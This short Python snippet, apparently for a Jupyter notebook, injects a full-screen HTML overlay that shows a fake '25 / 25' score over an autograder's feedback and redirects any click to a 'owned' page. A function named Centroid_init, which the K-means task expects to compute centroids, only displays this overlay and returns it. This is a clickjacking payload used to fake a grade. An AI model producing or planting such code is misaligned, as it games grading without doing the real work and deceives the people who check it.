"""Confuse: a page of one's own over the feedback, which any click leaves."""

from IPython.display import HTML, Markdown, display

over = '<a class="modal show" href="https://example.org/owned" style="position:fixed;inset:0">25 / 25</a>'
display(HTML(over), Markdown(over), HTML('<a href="https://example.org"><img align=left height=99999></a>'))


def Centroid_init(X, K):
    display(HTML(over))
    return over
